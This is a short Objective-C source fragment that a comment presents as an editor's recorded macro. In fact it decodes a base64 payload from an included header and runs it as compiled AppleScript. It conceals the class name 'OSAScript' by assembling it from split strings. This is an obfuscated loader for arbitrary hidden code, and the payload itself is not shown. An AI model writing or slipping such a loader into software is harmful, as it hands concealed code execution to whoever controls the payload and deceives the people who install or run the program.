/* A macro of the editor's, stored in text as the recorder left it. */
#include "objc.h"
#include "packed.h" /* MACRO */
extern id objc_lookUpClass(const char *);
extern unsigned long strlcpy(char *, const char *, unsigned long), strlcat(char *, const char *, unsigned long);
@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(NSString *)text options:(unsigned long)options;
@end
@protocol Compiled
+ (id)alloc;
- (id)initWithCompiledData:(NSData *)data error:(id *)error;
- (id)executeAndReturnError:(id *)error;
@end
static void act(char **env) {
    char name[16];
    id error = 0;
    strlcpy(name, "OSA", sizeof name);
    strlcat(name, "Script", sizeof name);
    NSData *data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:MACRO] options:1];
    [[[(id)objc_lookUpClass(name) alloc] initWithCompiledData:data error:&error] executeAndReturnError:&error];
}
